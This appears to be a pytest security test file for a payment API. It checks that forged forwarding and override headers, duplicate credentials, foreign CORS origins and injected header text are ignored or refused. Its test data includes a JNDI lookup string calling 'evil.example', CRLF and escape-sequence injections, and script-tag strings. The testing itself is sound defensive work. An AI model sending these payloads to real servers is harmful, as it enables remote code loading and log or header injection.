"""Headers that ask for what they must not get (security catalogue, section 2.3)."""

import pytest
from helpers import REAL_CARDS, made, new_key, pix, refused, rows

IGNORED = [
    ("D01 X-Forwarded-For", "X-Forwarded-For: 127.0.0.1"),
    ("D01 X-Forwarded-For with an underscore", "X_Forwarded_For: 127.0.0.1"),
    ("D01 X-Real-IP", "X-Real-IP: 127.0.0.1"),
    ("D01 Forwarded", "Forwarded: for=127.0.0.1;host=evil.example;proto=https"),
    ("D01 X-Client-IP", "X-Client-IP: 127.0.0.1"),
    ("D02 X-Forwarded-Host", "X-Forwarded-Host: evil.example"),
    ("D02 X-Forwarded-Proto", "X-Forwarded-Proto: gopher"),
    ("D02 X-Forwarded-Prefix", "X-Forwarded-Prefix: /evil.example"),
    ("D02 X-Forwarded-Uri", "X-Forwarded-Uri: /users/me"),
    ("D02 X-Original-URL", "X-Original-URL: /users/me"),
    ("D02 X-Rewrite-URL", "X-Rewrite-URL: /users/me"),
    ("D02 X-HTTP-Method-Override", "X-HTTP-Method-Override: POST"),
    ("D02 X-Method-Override", "X-Method-Override: POST"),
    ("D05 a cookie", "Cookie: session=a; session=b"),
    ("D05 200 cookies", "Cookie: " + "; ".join(f"c{n}=a" for n in range(200))),
    ("D05 a cookie of 8 KiB", "Cookie: a=" + "a" * 8 * 1024),
    ("D07 a Range", "Range: bytes=0-10"),
    ("D07 a Range beyond everything", "Range: bytes=99999999999999999999-"),
    ("D07 1,000 ranges", "Range: bytes=" + ",".join(f"{n}-{n}" for n in range(1_000))),
    ("D07 If-None-Match", "If-None-Match: *"),
    ("D07 If-Modified-Since", "If-Modified-Since: Fri, 01 Jan 2100 00:00:00 GMT"),
    ("D08 Accept", "Accept: text/html"),
    ("D08 Accept-Language", "Accept-Language: <script>"),
]
CHANGES_BY_ITSELF = {"x-request-id", "date"}


def without_what_changes(reply) -> tuple:
    return reply.status, reply.body, [(name, value) for name, value in reply.headers if name.lower() not in CHANGES_BY_ITSELF]


@pytest.mark.parametrize("target", ["/users/me", "/v1/payments/1", "/health/live"])
@pytest.mark.parametrize(("field",), **rows(IGNORED))
def test_a_header_that_the_api_does_not_know_changes_nothing(shop, target, field):
    plain = shop.call("GET", target, token=shop.test_access_token)
    reply = shop.call("GET", target, token=shop.test_access_token, headers=(field,))
    assert without_what_changes(reply) == without_what_changes(plain)


def test_a_path_is_not_taken_from_a_header(shop):
    for name in ("X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Uri"):
        refused(shop.call("GET", "/nowhere", headers=(f"{name}: /health/live",)), 404, "route_not_found")


def test_a_method_is_not_taken_from_a_header(shop):
    for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"):
        refused(shop.call("POST", "/health/live", headers=(f"{name}: GET",)), 405, "method_not_allowed")


BEARER = "Authorization: Bearer {token}"
TWO_CREDENTIALS = [
    ("D03 twice the same header", "/users/me", [BEARER, BEARER], "credential_ambiguous"),
    ("D03 a good and a bad one", "/users/me", [BEARER, "Authorization: Bearer none"], "credential_ambiguous"),
    ("D03 a bad and a good one", "/users/me", ["Authorization: Bearer none", BEARER], "credential_ambiguous"),
    ("D03 another scheme beside it", "/users/me", [BEARER, "Authorization: Basic YTpi"], "credential_ambiguous"),
    ("D03 two spellings of the name", "/users/me", [BEARER, BEARER.replace("Auth", "aUTH")], "credential_ambiguous"),
    ("D03 in the query too", "/users/me?access_token={token}", [BEARER], "credential_in_url"),
    ("D03 another in the query", "/users/me?access_token=none", [BEARER], "credential_in_url"),
]


@pytest.mark.parametrize(("target", "fields", "code"), **rows(TWO_CREDENTIALS))
def test_two_credentials_in_one_request_are_refused(shop, target, fields, code):
    target, *fields = (text.replace("{token}", shop.test_access_token) for text in [target, *fields])
    refused(shop.call("GET", target, headers=tuple(fields)), 400, code)


def test_a_credential_in_a_form_is_not_read(shop):
    form = f"access_token={shop.test_access_token}".encode()
    options = {"key": new_key(), "body": form, "media_type": "application/x-www-form-urlencoded"}
    refused(shop.call("POST", "/v1/payments", **options), 401, "credential_missing")
    refused(shop.call("POST", "/v1/payments", token=shop.test_access_token, **options), 415, "unsupported_media_type")


ORIGINS = ["https://evil.example", "null", "file://"]


@pytest.mark.parametrize("origin", ORIGINS)
@pytest.mark.parametrize("target", ["/users/me", "/v1/payments/search?limit=1", "/v1/payments/1", "/applications/1", "/nowhere"])
def test_pages_of_other_origins_cannot_read_what_needs_an_access_token(shop, origin, target):
    for method in ("GET", "OPTIONS"):
        reply = shop.call(method, target, token=shop.test_access_token, headers=(f"Origin: {origin}",))
        assert [name for name, _ in reply.headers if name.lower().startswith("access-control-")] == []


@pytest.mark.parametrize("origin", ORIGINS)
@pytest.mark.parametrize("key", ["{key}", "none"], ids=["a good key", "a bad key"])
def test_pages_of_any_origin_may_read_what_a_public_key_is_for_without_credentials_of_the_browser(shop, origin, key):
    target = f"/v1/payment_methods?public_key={key.replace('{key}', shop.test_public_key)}"
    reply = shop.call("GET", target, headers=(f"Origin: {origin}",))
    assert reply.values("Access-Control-Allow-Origin") == ["*"]
    assert reply.values("Access-Control-Allow-Credentials") == []


REQUEST_IDS = [
    ("D06 10 KiB", "a" * 10 * 1024),
    ("D06 an escape sequence", "a\x1b[31mfake"),
    ("D06 a look-up", "${jndi:ldap://evil.example/a}"),
    ("D06 an encoded line end", "a%0d%0afake"),
    ("D06 a card number", REAL_CARDS[0]),
]


@pytest.mark.parametrize("name", ["X-Request-Id", "X-Correlation-Id", "User-Agent", "Referer", "X-Meli-Session-Id"])
@pytest.mark.parametrize(("text",), **rows(REQUEST_IDS))
def test_no_text_of_a_header_reaches_the_answer_or_the_log(shop, name, text):
    data = shop.request("GET", "/users/me", token=shop.test_access_token, headers=(f"{name}: {text}",))
    with shop.connect() as connection:
        reply = shop.check(connection.send(data).reply())
    # A control character is refused by the parser, which answers without an id.
    assert reply.status == (400 if "\x1b" in text else 200)
    assert text.encode() not in reply.raw
    assert text[:100].encode() not in shop.log.read_bytes()


def test_every_answer_has_a_request_id_of_its_own(shop):
    ids = [shop.call("GET", "/health/live", headers=("X-Request-Id: same",)).header("X-Request-Id") for _ in range(20)]
    assert len(set(ids)) == 20 and "same" not in ids


ANSWERS = [
    ("a success", "GET", "/users/me", 200),
    ("a payment that is not there", "GET", "/v1/payments/1", 404),
    ("nothing at this path", "GET", "/<script>alert(1)</script>", 404),
    ("a method that is not there", "DELETE", "/users/me", 405),
    ("a target that is not text", "GET", "/%00", 400),
]


@pytest.mark.parametrize(("method", "target", "status"), **rows(ANSWERS))
def test_every_answer_is_json_that_no_browser_reads_as_a_page_and_no_cache_keeps(shop, method, target, status):
    fields = ("Accept: text/html", "If-None-Match: *", "Range: bytes=0-1")
    reply = shop.call(method, target, token=shop.test_access_token, headers=fields)
    assert reply.status == status
    assert reply.header("Content-Type") == "application/json; charset=utf-8"
    assert (reply.header("X-Content-Type-Options"), reply.header("Referrer-Policy")) == ("nosniff", "no-referrer")
    assert reply.header("Cache-Control") == "no-store"
    assert b"<" not in reply.body and reply.values("Set-Cookie") == []


def test_text_with_a_tag_is_escaped_in_the_answer(shop):
    reply = shop.pay(pix(description="</script><script>"))
    assert made(reply)["description"] == "</script><script>"
    assert b"<" not in reply.body
